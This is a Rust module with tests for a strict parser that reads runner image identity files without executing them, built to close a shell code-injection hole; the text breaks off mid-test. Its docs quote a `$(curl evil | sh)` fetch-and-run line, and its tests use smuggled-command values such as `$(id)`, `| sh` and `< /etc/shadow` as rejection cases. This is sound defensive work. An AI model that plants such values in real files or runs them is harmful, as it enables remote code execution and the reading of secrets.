//! Strict parser for runner image identity files.
//!
//! A runner image describes itself in `KEY=VALUE` files under `/etc/runner/`:
//! `image.env` (who the image is), `runtime.env` (the user, shell and working
//! directory it runs with) and `tools.env` (the tools it ships).
//!
//! # Why a parser and not a shell
//!
//! Upstream runner images used to `source` these files as shell scripts. Any
//! value was then executed, so a metadata file that carried
//! `RUNNER_DESCRIPTION=$(curl evil | sh)` ran that command inside the
//! consumer: a code-injection bug. The upstream 0.2.x fix replaced `source`
//! with a strict line parser, and this module implements that same grammar in
//! Rust. Nothing here ever expands, evaluates or executes a value; every
//! value is kept byte-for-byte as written. The parser additionally rejects
//! quotes, command substitutions and control or redirection operators, so
//! the worst of shell syntax never gets in. That does **not** make an
//! accepted file safe to `source`: spaces and `${…}` are legal in values, and
//! a shell reads `KEY=a b` as "run `b` with `KEY=a`". Nothing may source
//! these files; read them with this parser (docs/SECURITY.md).
//!
//! # Grammar
//!
//! * The text is split into lines on `\n`; one trailing `\r` per line is
//!   stripped (files written on Windows still parse).
//! * Empty lines and lines whose first character is `#` are skipped. They
//!   still count towards line numbers in error messages.
//! * A line starting with `export` followed by whitespace is rejected
//!   (`export prefix is not supported`).
//! * Every other line must contain `=`. The key is the text before the first
//!   `=` and must match `^[A-Z][A-Z0-9_]*$`; the value is everything after it,
//!   kept literally: empty values, further `=` signs and surrounding spaces
//!   are all preserved.
//! * A key may appear only once per file.
//! * A value may not contain, checked in this order (the first hit is
//!   reported): a quote (`"` or `'`), `$(`, a backtick, `&&`, `||`, `;`, `|`,
//!   `<`, `>`.
//! * Hardening beyond upstream: a value may not contain a NUL byte or any
//!   other control character except tab (`control characters are not
//!   supported`). Bash silently drops NUL bytes and treats a stray `\r` or
//!   escape sequence as data, which makes the file mean different things to
//!   different readers and lets a value smuggle terminal escapes into logs.
//!   This check runs after the upstream checks, so every input upstream
//!   rejects is rejected here with the same message.
//!
//! Errors render exactly like upstream's diagnostics minus the `ERROR: `
//! prefix, which the runner adds itself, e.g.
//! `invalid metadata in /etc/runner/image.env:3: quotes are not supported`.

use std::collections::HashSet;
use std::fmt;
use std::path::Path;

use crate::printable::Printable;

/// The largest identity file [`EnvFile::read`] accepts: 1 MiB. Real ones
/// hold a few hundred bytes. The cap is fixed: the `runner` entrypoint's
/// argv is its contract and takes no tuning flags.
pub const MAX_IDENTITY_FILE_BYTES: u64 = 1 << 20;

/// One parsed `KEY=VALUE` identity file, entries kept in file order.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EnvFile {
    /// Where the text came from (a path or a caller-chosen label); used in
    /// error messages.
    origin: String,
    /// Every `KEY=VALUE` line, in file order. Keys are unique.
    entries: Vec<(String, String)>,
}

impl EnvFile {
    /// Parses `text` with the strict identity-file grammar (see the
    /// [module docs](self)).
    ///
    /// `origin` labels the text in error messages, e.g. `image.env` or
    /// `/etc/runner/image.env`.
    ///
    /// # Errors
    ///
    /// [`IdentityError::Syntax`] for the first offending line.
    pub fn parse(text: &str, origin: &str) -> Result<EnvFile, IdentityError> {
        let mut entries: Vec<(String, String)> = Vec::new();
        let mut seen: HashSet<&str> = HashSet::new();

        for (index, raw_line) in text.split('\n').enumerate() {
            let line_number = index + 1;
            let syntax_error = |kind: SyntaxErrorKind| IdentityError::Syntax {
                file: origin.to_owned(),
                line: line_number,
                kind,
            };

            // Only one `\r` is stripped, as upstream does; a second one is
            // left in the value and rejected as a control character.
            let line = raw_line.strip_suffix('\r').unwrap_or(raw_line);

            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            if has_export_prefix(line) {
                return Err(syntax_error(SyntaxErrorKind::ExportPrefix));
            }
            let Some((key, value)) = line.split_once('=') else {
                return Err(syntax_error(SyntaxErrorKind::ExpectedKeyValue));
            };
            if !is_valid_key(key) {
                return Err(syntax_error(SyntaxErrorKind::InvalidKey(key.to_owned())));
            }
            // Upstream checks duplicates before the value, so a repeated key
            // is reported as such even when its value is also bad.
            if !seen.insert(key) {
                return Err(syntax_error(SyntaxErrorKind::DuplicateKey(key.to_owned())));
            }
            if let Some(kind) = check_value(value) {
                return Err(syntax_error(kind));
            }
            entries.push((key.to_owned(), value.to_owned()));
        }

        Ok(EnvFile {
            origin: origin.to_owned(),
            entries,
        })
    }

    /// Parses raw file contents, which must be valid UTF-8.
    ///
    /// # Errors
    ///
    /// [`IdentityError::NotUtf8`] if `bytes` is not UTF-8, otherwise as
    /// [`EnvFile::parse`].
    pub fn parse_bytes(bytes: &[u8], origin: &str) -> Result<EnvFile, IdentityError> {
        let text = std::str::from_utf8(bytes).map_err(|_| IdentityError::NotUtf8 {
            file: origin.to_owned(),
        })?;
        Self::parse(text, origin)
    }

    /// Reads and parses the file at `path`; the origin label is
    /// `path.display()`.
    ///
    /// # Errors
    ///
    /// [`IdentityError::Unreadable`] if the file cannot be read (missing,
    /// permission denied, a directory, ...), otherwise as
    /// [`EnvFile::parse_bytes`].
    /// A file over [`MAX_IDENTITY_FILE_BYTES`] is [`IdentityError::TooLarge`],
    /// found before it is read whole.
    pub fn read(path: &Path) -> Result<EnvFile, IdentityError> {
        use std::io::Read as _;

        let origin = path.display().to_string();
        let unreadable = |source| IdentityError::Unreadable {
            file: origin.clone(),
            source,
        };
        let file = std::fs::File::open(path).map_err(unreadable)?;
        let too_large = || IdentityError::TooLarge {
            file: origin.clone(),
            limit: MAX_IDENTITY_FILE_BYTES,
        };
        let metadata = file.metadata().map_err(unreadable)?;
        if metadata.is_file() && metadata.len() > MAX_IDENTITY_FILE_BYTES {
            return Err(too_large());
        }
        let mut bytes = Vec::new();
        file.take(MAX_IDENTITY_FILE_BYTES + 1)
            .read_to_end(&mut bytes)
            .map_err(unreadable)?;
        if bytes.len() as u64 > MAX_IDENTITY_FILE_BYTES {
            return Err(too_large());
        }
        Self::parse_bytes(&bytes, &origin)
    }

    /// The label given at parse time (the path for [`EnvFile::read`]).
    pub fn origin(&self) -> &str {
        &self.origin
    }

    /// The value of `key`, if the file sets it. An empty value is
    /// `Some("")`.
    pub fn get(&self, key: &str) -> Option<&str> {
        self.entries
            .iter()
            .find(|(k, _)| k == key)
            .map(|(_, v)| v.as_str())
    }

    /// All `(key, value)` pairs in file order.
    pub fn entries(&self) -> impl Iterator<Item = (&str, &str)> {
        self.entries.iter().map(|(k, v)| (k.as_str(), v.as_str()))
    }

    /// Number of entries.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether the file has no entries (only blank lines and comments, or
    /// nothing at all).
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

/// `export` followed by whitespace, matching upstream's
/// `^export[[:space:]]`. Catching the tab form too keeps the message helpful
/// instead of falling through to "invalid key".
fn has_export_prefix(line: &str) -> bool {
    line.strip_prefix("export")
        .and_then(|rest| rest.chars().next())
        .is_some_and(|c| c.is_ascii_whitespace() || c == '\x0b')
}

/// `^[A-Z][A-Z0-9_]*$`: names that are valid shell variables and cannot
/// collide with lowercase shell internals.
fn is_valid_key(key: &str) -> bool {
    let mut bytes = key.bytes();
    bytes.next().is_some_and(|b| b.is_ascii_uppercase())
        && bytes.all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
}

/// The first reason `value` is rejected, in upstream's order, then our
/// control-character hardening.
fn check_value(value: &str) -> Option<SyntaxErrorKind> {
    // Order matters and mirrors upstream's `case`: quotes beat everything,
    // and the two-character operators (`&&`, `||`) are tested before the
    // single `|`, so the message names the operator actually written.
    let checks: [(&str, SyntaxErrorKind); 10] = [
        ("\"", SyntaxErrorKind::Quotes),
        ("'", SyntaxErrorKind::Quotes),
        ("$(", SyntaxErrorKind::CommandSubstitution),
        ("`", SyntaxErrorKind::Backticks),
        ("&&", SyntaxErrorKind::AndOperator),
        ("||", SyntaxErrorKind::OrOperator),
        (";", SyntaxErrorKind::Semicolon),
        ("|", SyntaxErrorKind::Pipe),
        ("<", SyntaxErrorKind::RedirectIn),
        (">", SyntaxErrorKind::RedirectOut),
    ];
    for (needle, kind) in checks {
        if value.contains(needle) {
            return Some(kind);
        }
    }
    if value.chars().any(|c| c.is_control() && c != '\t') {
        return Some(SyntaxErrorKind::ControlCharacter);
    }
    None
}

/// The image's identity, from a parsed `image.env`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ImageIdentity {
    /// `RUNNER_IMAGE`, e.g. `runner-base`. Never empty.
    pub image: String,
    /// `RUNNER_DOMAIN`, e.g. `base`. Never empty.
    pub domain: String,
    /// `RUNNER_ROLE`, e.g. `base`. Never empty.
    pub role: String,
    /// The whole parsed file, for optional and image-specific keys.
    pub file: EnvFile,
}

impl ImageIdentity {
    /// Keys every `image.env` must set to a non-empty value, in the order
    /// they are checked and reported.
    pub const REQUIRED_KEYS: [&str; 3] = ["RUNNER_IMAGE", "RUNNER_DOMAIN", "RUNNER_ROLE"];

    /// Checks that `file` carries the [required keys](Self::REQUIRED_KEYS).
    ///
    /// # Errors
    ///
    /// For the first required key (in [`Self::REQUIRED_KEYS`] order) that is
    /// absent, [`IdentityError::MissingKey`]; if it is present but empty,
    /// [`IdentityError::EmptyKey`]. An empty file reports `RUNNER_IMAGE`
    /// missing.
    pub fn from_env_file(file: EnvFile) -> Result<Self, IdentityError> {
        let [image, domain, role] = Self::REQUIRED_KEYS;
        let image = required(&file, image)?;
        let domain = required(&file, domain)?;
        let role = required(&file, role)?;
        Ok(ImageIdentity {
            image,
            domain,
            role,
            file,
        })
    }

    /// `RUNNER_DESCRIPTION`, if set.
    pub fn description(&self) -> Option<&str> {
        self.file.get("RUNNER_DESCRIPTION")
    }

    /// `RUNNER_VENDOR`, if set.
    pub fn vendor(&self) -> Option<&str> {
        self.file.get("RUNNER_VENDOR")
    }

    /// `RUNNER_REPOSITORY`, if set.
    pub fn repository(&self) -> Option<&str> {
        self.file.get("RUNNER_REPOSITORY")
    }
}

/// The non-empty value of a required `key`.
fn required(file: &EnvFile, key: &str) -> Result<String, IdentityError> {
    match file.get(key) {
        None => Err(IdentityError::MissingKey {
            file: file.origin.clone(),
            key: key.to_owned(),
        }),
        Some("") => Err(IdentityError::EmptyKey {
            file: file.origin.clone(),
            key: key.to_owned(),
        }),
        Some(value) => Ok(value.to_owned()),
    }
}

/// Why an identity file was rejected.
///
/// Display strings match upstream's diagnostics without the `ERROR: `
/// prefix.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum IdentityError {
    /// A line breaks the grammar.
    #[error("invalid metadata in {file}:{line}: {kind}")]
    Syntax {
        /// Origin label of the file.
        file: String,
        /// 1-based line number, counting blank and comment lines.
        line: usize,
        /// What is wrong with the line.
        kind: SyntaxErrorKind,
    },
    /// The file could not be read.
    #[error("metadata file is not readable ({file})")]
    Unreadable {
        /// The path, as displayed.
        file: String,
        /// The underlying I/O error.
        #[source]
        source: std::io::Error,
    },
    /// The file is larger than [`MAX_IDENTITY_FILE_BYTES`]; nothing was parsed.
    #[error("invalid metadata in {file}: larger than the {limit}-byte cap on identity files")]
    TooLarge {
        /// The path, as displayed.
        file: String,
        /// The cap.
        limit: u64,
    },
    /// The file is not valid UTF-8.
    #[error("invalid metadata in {file}: not valid UTF-8")]
    NotUtf8 {
        /// Origin label of the file.
        file: String,
    },
    /// A required key is absent.
    #[error("missing required key '{key}' in {file}")]
    MissingKey {
        /// Origin label of the file.
        file: String,
        /// The missing key.
        key: String,
    },
    /// A required key is present with an empty value.
    #[error("required key '{key}' is empty in {file}")]
    EmptyKey {
        /// Origin label of the file.
        file: String,
        /// The empty key.
        key: String,
    },
}

/// What is wrong with one line of an identity file.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum SyntaxErrorKind {
    /// The line starts with `export `.
    ExportPrefix,
    /// The line has no `=`.
    ExpectedKeyValue,
    /// The key does not match `^[A-Z][A-Z0-9_]*$`; holds the key as written.
    InvalidKey(String),
    /// The key was already set earlier in the file.
    DuplicateKey(String),
    /// The value contains `"` or `'`.
    Quotes,
    /// The value contains `$(`.
    CommandSubstitution,
    /// The value contains a backtick.
    Backticks,
    /// The value contains `&&`.
    AndOperator,
    /// The value contains `||`.
    OrOperator,
    /// The value contains `;`.
    Semicolon,
    /// The value contains `|`.
    Pipe,
    /// The value contains `<`.
    RedirectIn,
    /// The value contains `>`.
    RedirectOut,
    /// The value contains a NUL byte or another control character other
    /// than tab (hardening beyond upstream).
    ControlCharacter,
}

impl fmt::Display for SyntaxErrorKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::ExportPrefix => f.write_str("export prefix is not supported"),
            Self::ExpectedKeyValue => f.write_str("expected KEY=VALUE"),
            Self::InvalidKey(key) => write!(f, "invalid key '{}'", Printable(key)),
            Self::DuplicateKey(key) => write!(f, "duplicate key '{key}'"),
            Self::Quotes => f.write_str("quotes are not supported"),
            Self::CommandSubstitution => f.write_str("command substitution '$()' is not supported"),
            Self::Backticks => f.write_str("backticks are not supported"),
            Self::AndOperator => f.write_str("control operator '&&' is not supported"),
            Self::OrOperator => f.write_str("control operator '||' is not supported"),
            Self::Semicolon => f.write_str("control operator ';' is not supported"),
            Self::Pipe => f.write_str("control operator '|' is not supported"),
            Self::RedirectIn => f.write_str("redirection operator '<' is not supported"),
            Self::RedirectOut => f.write_str("redirection operator '>' is not supported"),
            Self::ControlCharacter => f.write_str("control characters are not supported"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Parses `text` as `image.env` and returns the error's Display.
    fn parse_err(text: &str) -> String {
        match EnvFile::parse(text, "image.env") {
            Ok(file) => panic!("expected an error, parsed {file:?}"),
            Err(err) => err.to_string(),
        }
    }

    fn parse_ok(text: &str) -> EnvFile {
        match EnvFile::parse(text, "image.env") {
            Ok(file) => file,
            Err(err) => panic!("expected success, got: {err}"),
        }
    }

    fn identity(text: &str) -> Result<ImageIdentity, IdentityError> {
        ImageIdentity::from_env_file(parse_ok(text))
    }

    /// Two valid lines in front, so every rejection is reported at line 3.
    fn at_line_3(bad_line: &str) -> String {
        parse_err(&format!("RUNNER_IMAGE=runner-base\n# comment\n{bad_line}\n"))
    }

    // --- Rejected lines -------------------------------------------------

    #[test]
    fn rejects_export_prefix() {
        assert_eq!(
            at_line_3("export RUNNER_IMAGE=runner-base"),
            "invalid metadata in image.env:3: export prefix is not supported"
        );
    }

    #[test]
    fn rejects_export_prefix_with_tab() {
        assert_eq!(
            at_line_3("export\tRUNNER_IMAGE=runner-base"),
            "invalid metadata in image.env:3: export prefix is not supported"
        );
    }

    #[test]
    fn key_merely_starting_with_export_letters_is_an_invalid_key() {
        assert_eq!(
            at_line_3("exportX=1"),
            "invalid metadata in image.env:3: invalid key 'exportX'"
        );
    }

    #[test]
    fn rejects_line_without_equals() {
        assert_eq!(
            at_line_3("RUNNER_IMAGE"),
            "invalid metadata in image.env:3: expected KEY=VALUE"
        );
    }

    #[test]
    fn rejects_whitespace_only_line() {
        assert_eq!(
            at_line_3("   "),
            "invalid metadata in image.env:3: expected KEY=VALUE"
        );
    }

    #[test]
    fn rejects_lowercase_key() {
        assert_eq!(
            at_line_3("runner_image=x"),
            "invalid metadata in image.env:3: invalid key 'runner_image'"
        );
    }

    #[test]
    fn rejects_key_starting_with_digit() {
        assert_eq!(
            at_line_3("1RUNNER=x"),
            "invalid metadata in image.env:3: invalid key '1RUNNER'"
        );
    }

    #[test]
    fn rejects_key_with_dash() {
        assert_eq!(
            at_line_3("RUNNER-IMAGE=x"),
            "invalid metadata in image.env:3: invalid key 'RUNNER-IMAGE'"
        );
    }

    #[test]
    fn rejects_key_with_surrounding_space() {
        assert_eq!(
            at_line_3("RUNNER_ROLE = base"),
            "invalid metadata in image.env:3: invalid key 'RUNNER_ROLE '"
        );
    }

    #[test]
    fn rejects_empty_key() {
        assert_eq!(
            at_line_3("=value"),
            "invalid metadata in image.env:3: invalid key ''"
        );
    }

    #[test]
    fn invalid_key_display_escapes_control_characters() {
        assert_eq!(
            at_line_3("A\u{1b}[31mB=x"),
            "invalid metadata in image.env:3: invalid key 'A\\u{1b}[31mB'"
        );
    }

    #[test]
    fn rejects_double_quotes() {
        assert_eq!(
            at_line_3("RUNNER_DESCRIPTION=\"quoted value\""),
            "invalid metadata in image.env:3: quotes are not supported"
        );
    }

    #[test]
    fn rejects_single_quotes() {
        assert_eq!(
            at_line_3("RUNNER_DESCRIPTION='quoted value'"),
            "invalid metadata in image.env:3: quotes are not supported"
        );
    }

    #[test]
    fn rejects_command_substitution() {
        assert_eq!(
            at_line_3("RUNNER_DOMAIN=$(id)"),
            "invalid metadata in image.env:3: command substitution '$()' is not supported"
        );
    }

    #[test]
    fn rejects_backticks() {
        assert_eq!(
            at_line_3("RUNNER_DOMAIN=`id`"),
            "invalid metadata in image.env:3: backticks are not supported"
        );
    }

    #[test]
    fn rejects_and_operator() {
        assert_eq!(
            at_line_3("RUNNER_DOMAIN=base && id"),
            "invalid metadata in image.env:3: control operator '&&' is not supported"
        );
    }

    #[test]
    fn rejects_or_operator() {
        assert_eq!(
            at_line_3("RUNNER_DOMAIN=base || id"),
            "invalid metadata in image.env:3: control operator '||' is not supported"
        );
    }

    #[test]
    fn rejects_semicolon() {
        assert_eq!(
            at_line_3("RUNNER_DOMAIN=base; id"),
            "invalid metadata in image.env:3: control operator ';' is not supported"
        );
    }

    #[test]
    fn rejects_pipe() {
        assert_eq!(
            at_line_3("RUNNER_DOMAIN=base | sh"),
            "invalid metadata in image.env:3: control operator '|' is not supported"
        );
    }

    #[test]
    fn rejects_redirect_in() {
        assert_eq!(
            at_line_3("RUNNER_DOMAIN=base < /etc/shadow"),
            "invalid metadata in image.env:3: redirection operator '<' is not supported"
        );
    }

    #[test]
    fn rejects_redirect_out() {
        assert_eq!(
            at_line_3("RUNNER_DOMAIN=base > /tmp/x"),
            "invalid metadata in image.env:3: redirection operator '>' is not supported"
        );
    }

    #[test]
    fn rejects_nul_byte() {
        assert_eq!(
            at_line_3("RUNNER_DOMAIN=ba\0se"),
            "invalid metadata in image.env:3: control characters are not supported"
        );
    }

    #[test]
    fn rejects_escape_character() {
        assert_eq!(
            at_line_3("RUNNER_DOMAIN=\u{1b}[2Jbase"),
            "invalid metadata in image.env:3: control characters are not supported"
        );
    }

    #[test]
    fn rejects_embedded_carriage_return() {
        assert_eq!(
            at_line_3("RUNNER_DOMAIN=ba\rse"),
            "invalid metadata in image.env:3: control characters are not supported"
        );
    }

    #[test]
    fn strips_only_one_trailing_carriage_return() {
        assert_eq!(
            at_line_3("RUNNER_DOMAIN=base\r\r"),
            "invalid metadata in image.env:3: control characters are not supported"
        );
    }

    #[test]
    fn rejects_delete_character() {
        assert_eq!(
            at_line_3("RUNNER_DOMAIN=base\u{7f}"),
            "invalid metadata in image.env:3: control characters are not supported"
        );
    }

    #[test]
    fn allows_tab_in_value() {
        assert_eq!(parse_ok("A=a\tb").get("A"), Some("a\tb"));
    }

    #[test]
    fn first_matching_check_wins() {
        // Quotes beat command substitution.
        assert_eq!(
            at_line_3("A=\"$(id)\""),
            "invalid metadata in image.env:3: quotes are not supported"
        );
        // `$(` beats backticks.
        assert_eq!(
            at_line_3("A=`$(id)`"),
            "invalid metadata in image.env:3: command substitution '$()' is not supported"
        );
        // `&&` beats `|`, `||` beats `|`.
        assert_eq!(
            at_line_3("A=a | b && c"),
            "invalid metadata in image.env:3: control operator '&&' is not supported"
        );
        assert_eq!(
            at_line_3("A=a||b"),
            "invalid metadata in image.env:3: control operator '||' is not supported"
        );
        // `;` beats `|`; `<` beats `>`.
        assert_eq!(
            at_line_3("A=a|b;c"),
            "invalid metadata in image.env:3: control operator ';' is not supported"
        );
        assert_eq!(
            at_line_3("A=>a<"),
            "invalid metadata in image.env:3: redirection operator '<' is not supported"
        );
        // Upstream checks come before the control-character hardening.
        assert_eq!(
            at_line_3("A=\0;"),
            "invalid metadata in image.env:3: control operator ';' is not supported"
        );
    }

    #[test]
    fn rejects_duplicate_key() {
        assert_eq!(
            parse_err("RUNNER_IMAGE=runner-base\nRUNNER_IMAGE=other\n"),
            "invalid metadata in image.env:2: duplicate key 'RUNNER_IMAGE'"
        );
    }

    #[test]
    fn duplicate_key_is_reported_before_bad_value() {
        assert_eq!(
            parse_err("A=1\nA=$(id)\n"),
            "invalid metadata in image.env:2: duplicate key 'A'"
        );
    }

    #[test]
    fn syntax_error_carries_structured_fields() {
        match EnvFile::parse("A=1\nB=x;y", "tools.env") {
            Err(IdentityError::Syntax { file, line, kind }) => {
                assert_eq!(file, "tools.env");
                assert_eq!(line, 2);
                assert_eq!(kind, SyntaxErrorKind::Semicolon);
            }
            other => panic!("unexpected result: {other:?}"),
        }
    }

    // --- Valid quirks kept literally ------------------------------------

    #[test]
    fn keeps_empty_value() {
        let file = parse_ok("RUNNER_DESCRIPTION=\n");
        assert_eq!(file.get("RUNNER_DESCRIPTION"), Some(""));
        assert_eq!(file.len(), 1);
    }

    #[test]
    fn keeps_further_equals_signs() {
        assert_eq!(parse_ok("A=b=c").get("A"), Some("b=c"));
    }

    #[test]
    fn keeps_surrounding_spaces() {
        assert_eq!(parse_ok("A= spaces ").get("A"), Some(" spaces "));
    }

    #[test]
    fn strips_crlf() {
        let file = parse_ok("A=1\r\nB=two\r\n");
        assert_eq!(file.get("A"), Some("1"));
        assert_eq!(file.get("B"), Some("two"));
    }

    #[test]
    fn accepts_url_with_query_and_paths() {
        let file = parse_ok("URL=https://x/?a=b\nRUNTIME_SHELL=/bin/bash\n");
        assert_eq!(file.get("URL"), Some("https://x/?a=b"));
        assert_eq!(file.get("RUNTIME_SHELL"), Some("/bin/bash"));
    }

    #[test]
    fn accepts_last_line_without_newline() {
        assert_eq!(parse_ok("A=1\nB=2").get("B"), Some("2"));
    }

    #[test]
    fn skips_comments_and_blank_lines_but_counts_them() {
        let text = "# header\n\nA=1\n#B=ignored\n\r\n  \n";
        assert_eq!(
            parse_err(text),
            "invalid metadata in image.env:6: expected KEY=VALUE"
        );
        let file = parse_ok("# header\n\nA=1\n#B=$(ignored)\n\r\nC=3\n");
        let entries: Vec<_> = file.entries().collect();
        assert_eq!(entries, vec![("A", "1"), ("C", "3")]);
        assert_eq!(file.get("B"), None);
    }

    #[test]
    fn entries_keep_file_order() {
        let file = parse_ok("Z=1\nA=2\nM=3\n");
        let keys: Vec<_> = file.entries().map(|(k, _)| k).collect();
        assert_eq!(keys, vec!["Z", "A", "M"]);
        assert_eq!(file.origin(), "image.env");
    }

    #[test]
    fn empty_text_parses_to_empty_file() {
        let file = parse_ok("");
        assert!(file.is_empty());
        assert_eq!(file.len(), 0);
        assert!(parse_ok("# only a comment\n\n").is_empty());
    }

    // --- Bytes and files ------------------------------------------------

    #[test]
    fn rejects_invalid_utf8() {
        let err =
            EnvFile::parse_bytes(b"A=\xff\xfe\n", "runtime.env").expect_err("invalid UTF-8 must be rejected");
        assert!(matches!(err, IdentityError::NotUtf8 { .. }));
        assert_eq!(
            err.to_string(),
            "invalid metadata in runtime.env: not valid UTF-8"
        );
    }

    #[test]
    fn parse_bytes_accepts_utf8() {
        let file =
            EnvFile::parse_bytes("A=žluťoučký\n".as_bytes(), "runtime.env").expect("valid UTF-8 parses");
        assert_eq!(file.get("A"), Some("žluťoučký"));
    }

    /// A directory under the system temp dir, unique to this test (its
    /// name) and this run (the process id; the crate reads no clock).
    fn scratch_dir(name: &str) -> std::path::PathBuf {
        let dir = std::env::temp_dir().join(format!("dcx-identity-{name}-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("create scratch dir");
        dir
    }

    #[test]
    fn unreadable_file_reports_path_and_source() {
        let dir = scratch_dir("unreadable");
        let path = dir.join("does-not-exist.env");
        let err = EnvFile::read(&path).expect_err("missing file must fail");
        assert_eq!(
            err.to_string(),
            format!("metadata file is not readable ({})", path.display())
        );
        let source = std::error::Error::source(&err).expect("io error is the source");
        let io = source
            .downcast_ref::<std::io::Error>()
            .expect("source is io::Error");
        assert_eq!(io.kind(), std::io::ErrorKind::NotFound);
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn read_parses_file_and_labels_errors_with_path() {
        let dir = scratch_dir("read");
        let good = dir.join("image.env");
        std::fs::write(&good, "RUNNER_IMAGE=a\nRUNNER_DOMAIN=b\nRUNNER_ROLE=c\n").expect("write");
        let file = EnvFile::read(&good).expect("valid file");
        assert_eq!(file.origin(), good.display().to_string());
        assert_eq!(file.len(), 3);

        let bad = dir.join("bad.env");
        std::fs::write(&bad, "A=1\nB=`id`\n").expect("write");
        let err = EnvFile::read(&bad).expect_err("backticks rejected");
        assert_eq!(
            err.to_string(),
            format!(
                "invalid metadata in {}:2: backticks are not supported",
                bad.display()
            )
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn identity_file_over_the_cap_is_refused_before_parsing() {
        let dir = scratch_dir("too-large");
        let path = dir.join("image.env");
        let file = std::fs::File::create(&path).expect("create");
        file.set_len(MAX_IDENTITY_FILE_BYTES + 1).expect("grow");
        let err = EnvFile::read(&path).expect_err("over the cap");
        assert_eq!(
            err.to_string(),
            format!(
                "invalid metadata in {}: larger than the 1048576-byte cap on identity files",
                path.display()
            )
        );
        // Exactly at the cap is read (and then judged by the grammar).
        file.set_len(MAX_IDENTITY_FILE_BYTES).expect("shrink");
        let err = EnvFile::read(&path).expect_err("NUL bytes");
        assert!(matches!(err, IdentityError::Syntax { line: 1, .. }), "{err}");
        let _ = std::fs::remove_dir_all(&dir);
    }

    // --- ImageIdentity --------------------------------------------------

    #[test]
    fn identity_with_required_keys_only() {
        let id = identity("RUNNER_IMAGE=runner-base\nRUNNER_DOMAIN=base\nRUNNER_ROLE=base\n")
            .expect("valid identity");
        assert_eq!(id.image, "runner-base");
        assert_eq!(id.domain, "base");
        assert_eq!(id.role, "base");
        assert_eq!(id.description(), None);
        assert_eq!(id.vendor(), None);
        assert_eq!(id.repository(), None);
    }

    #[test]
    fn identity_reports_first_missing_key_in_order() {
        let err = identity("RUNNER_ROLE=base\n").expect_err("missing keys");
        assert_eq!(
            err.to_string(),
            "missing required key 'RUNNER_IMAGE' in image.env"
        );
        let err = identity("RUNNER_IMAGE=x\nRUNNER_ROLE=base\n").expect_err("missing domain");
        assert_eq!(
            err.to_string(),
            "missing required key 'RUNNER_DOMAIN' in image.env"
        );
        let err = identity("RUNNER_IMAGE=x\nRUNNER_DOMAIN=y\n").expect_err("missing role");
        assert_eq!(err.to_string(), "missing required key 'RUNNER_ROLE' in image.env");
    }

    #[test]
    fn identity_from_empty_file_reports_runner_image_missing() {
        let err = identity("").expect_err("empty file");
        assert!(matches!(err, IdentityError::MissingKey { ref key, .. } if key == "RUNNER_IMAGE"));
        assert_eq!(
            err.to_string(),
            "missing required key 'RUNNER_IMAGE' in image.env"
        );
    }

    #[test]
    fn identity_rejects_empty_required_value() {
        let err = identity("RUNNER_IMAGE=x\nRUNNER_DOMAIN=\nRUNNER_ROLE=base\n").expect_err("empty domain");
        assert!(matches!(err, IdentityError::EmptyKey { ref key, .. } if key == "RUNNER_DOMAIN"));
        assert_eq!(
            err.to_string(),
            "required key 'RUNNER_DOMAIN' is empty in image.env"
        );
    }

    #[test]
    fn identity_empty_value_reported_in_key_order() {
        // RUNNER_IMAGE is empty and RUNNER_ROLE missing: RUNNER_IMAGE comes first.
        let err = identity("RUNNER_IMAGE=\nRUNNER_DOMAIN=base\n").expect_err("bad");
        assert_eq!(
            err.to_string(),
            "required key 'RUNNER_IMAGE' is empty in image.env"
        );
    }

    // --- Upstream v0.2.0 manifest -----------------------------------------

    const UPSTREAM_MANIFEST: &str = "\
MANIFEST_SCHEMA_VERSION=1
RUNNER_PLATFORM=runner
RUNNER_IMAGE=runner-base
RUNNER_DOMAIN=base
RUNNER_ROLE=base
RUNNER_DESCRIPTION=\"Deterministic runner base image\"
RUNNER_VENDOR=gehorak
RUNNER_LICENSE=MIT
RUNNER_REPOSITORY=https://github.com/gehorak/runner-base
RUNTIME_USER_NAME=runner
RUNTIME_USER_UID=10001
RUNTIME_USER_GID=10001
RUNTIME_USER_HOME=/home/runner
RUNTIME_SHELL=/bin/bash
RUNTIME_WORKDIR=/workspace
";

    /// Splits the manifest the way upstream materialises `/etc/runner/`:
    /// `RUNNER_*` (minus `RUNNER_TOOL_*`) to image.env, `RUNTIME_*` to
    /// runtime.env, `RUNNER_TOOL_*` to tools.env.
    fn split_manifest(manifest: &str) -> (String, String, String) {
        let mut image = String::new();
        let mut runtime = String::new();
        let mut tools = String::new();
        for line in manifest.lines() {
            let target = if line.starts_with("RUNNER_TOOL_") {
                &mut tools
            } else if line.starts_with("RUNNER_") {
                &mut image
            } else if line.starts_with("RUNTIME_") {
                &mut runtime
            } else {
                continue;
            };
            target.push_str(line);
            target.push('\n');
        }
        (image, runtime, tools)
    }

    #[test]
    fn upstream_manifest_rejects_quoted_description() {
        let (image, _, _) = split_manifest(UPSTREAM_MANIFEST);
        let err = EnvFile::parse(&image, "image.env").expect_err("quoted description");
        assert_eq!(
            err.to_string(),
            "invalid metadata in image.env:5: quotes are not supported"
        );
        // The unsplit manifest fails at the same line, counted in the manifest.
        let err = EnvFile::parse(UPSTREAM_MANIFEST, "manifest.env").expect_err("quoted");
        assert_eq!(
            err.to_string(),
            "invalid metadata in manifest.env:6: quotes are not supported"
        );
    }

    #[test]
    fn upstream_manifest_parses_without_quoted_line() {
        let manifest: String = UPSTREAM_MANIFEST
            .lines()
            .filter(|line| !line.starts_with("RUNNER_DESCRIPTION="))
            .map(|line| format!("{line}\n"))
            .collect();
        assert!(EnvFile::parse(&manifest, "manifest.env").is_ok());

        let (image, runtime, tools) = split_manifest(&manifest);

        let image = EnvFile::parse(&image, "/etc/runner/image.env").expect("image.env");
        assert_eq!(image.len(), 7);
